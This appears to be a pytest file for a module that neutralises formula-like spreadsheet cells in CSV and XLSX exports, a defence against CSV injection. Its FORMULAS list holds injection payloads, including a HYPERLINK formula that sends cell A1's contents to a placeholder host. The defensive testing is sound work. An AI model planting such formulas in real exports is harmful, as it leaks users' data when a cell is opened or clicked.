"""asm/exports.py on its own: the one neutralising rule for every CSV and XLSX cell (OWASP "CSV Injection")."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from openpyxl import load_workbook

from asm.exports import looks_like_formula, neutralize, write_csv, write_xlsx

FORMULAS = [
    '=HYPERLINK("http://x/?"&A1,"click")',
    "+1+1",
    "-1+1",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",  # full-width equals: some spreadsheet locales take it as "="
]
TEXTS = ["Nguyễn Thị Hoa", "Phòng 101", "a=b", " =1+1", "'quoted", "", "Du lịch - công tác"]


@pytest.mark.parametrize("value", FORMULAS)
def test_a_formula_looking_text_gets_a_quote(value: str) -> None:
    assert looks_like_formula(value)
    assert neutralize(value) == "'" + value


@pytest.mark.parametrize("value", [*TEXTS, 12, 0.5, None, date(2026, 1, 1)])
def test_anything_else_is_left_alone(value: object) -> None:
    assert not looks_like_formula(value)
    assert neutralize(value) is value


def test_csv_quotes_every_cell_and_counts_rows() -> None:
    out = io.StringIO()
    seen: list[int] = []
    n = write_csv(out, ["=head", "Tên"], ([f"-{i}", i] for i in range(1200)), seen.append)
    assert n == 1200 and seen == [500, 1000]
    rows = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert rows[0] == ["'=head", "Tên"]
    assert rows[1] == ["'-0", "0"]
    assert all(line.startswith('"') for line in out.getvalue().splitlines())


def test_xlsx_text_is_never_a_formula_or_an_error() -> None:
    out = io.BytesIO()
    write_xlsx(out, [("Sổ", ["STT", "Họ và tên"], [[1, value] for value in [*FORMULAS, *TEXTS, "#N/A", "a\x07b"]])])
    sheet = load_workbook(io.BytesIO(out.getvalue())).active
    cells = [row[1] for row in sheet.iter_rows(min_row=2)]
    assert [c.data_type for c in cells if c.value is not None] == ["s"] * (len(FORMULAS) + len(TEXTS) + 1)
    assert [c.value for c in cells[: len(FORMULAS)]] == [v.replace("\r", "\n") for v in FORMULAS]  # as stored
    assert all(c.quotePrefix for c in cells[: len(FORMULAS)])
    assert cells[-2].value == "#N/A" and cells[-1].value == "a\ufffdb"  # XML cannot carry a bell
    assert sheet.title == "Sổ" and sheet["A2"].value == 1 and sheet["A2"].data_type == "n"
